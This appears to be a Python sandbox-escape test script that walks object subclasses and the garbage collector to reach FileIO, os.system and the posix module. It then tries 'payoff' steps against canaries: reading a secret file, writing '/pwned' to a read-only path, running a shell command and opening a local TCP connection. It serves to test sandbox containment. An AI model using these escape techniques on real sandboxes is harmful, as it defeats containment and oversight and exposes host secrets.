# PY-05 subclasses-gc-walk: find what was hidden by walking the type tree
# and the garbage collector: FileIO among the subclasses of object,
# os._wrap_close's __init__.__globals__ (the os module: system), the
# BuiltinImporter loading a module, every module through gc.get_objects(),
# gc.get_referrers.  The walks work; what they reach is the sandbox.
import gc
import socket


class Refused(Exception):
    """The trick did not work, or the payoff was stopped."""


def must(cond):
    if not cond:
        raise Refused


def subclasses(base):
    """Every subclass of base, however deep."""
    seen, todo = [], [base]
    while todo:
        for s in type.__subclasses__(todo.pop()):
            if s not in seen:
                seen.append(s)
                todo.append(s)
    return seen


def find(name):
    for c in subclasses(object):
        if c.__name__ == name:
            return c
    raise Refused(name)


report("find-fileio", find, "FileIO")
report("find-wrap-close", find, "_wrap_close")
system = find("_wrap_close").__init__.__globals__["system"]
report("wrap-close-system", lambda: must(system("true") == 0))
report("builtin-importer-load", lambda: find("BuiltinImporter").load_module("posix").getpid())
report("gc-modules", lambda: must([o for o in gc.get_objects() if type(o).__name__ == "module"]))
report("gc-referrers", gc.get_referrers, object())
FileIO = find("FileIO")
report("payoff-read-secret", lambda: FileIO(canary("SECRET")).read())
report("payoff-write-host", lambda: FileIO(canary("RO") + "/pwned", "w"))
report("payoff-system-write-host",
       lambda: must(system("exec 2>/dev/null; echo x > " + canary("RO") + "/pwned") == 0))
report("payoff-connect-host", lambda: socket.create_connection(
    ("127.0.0.1", int(canary("TCP_PORT"))), timeout=2))
done()
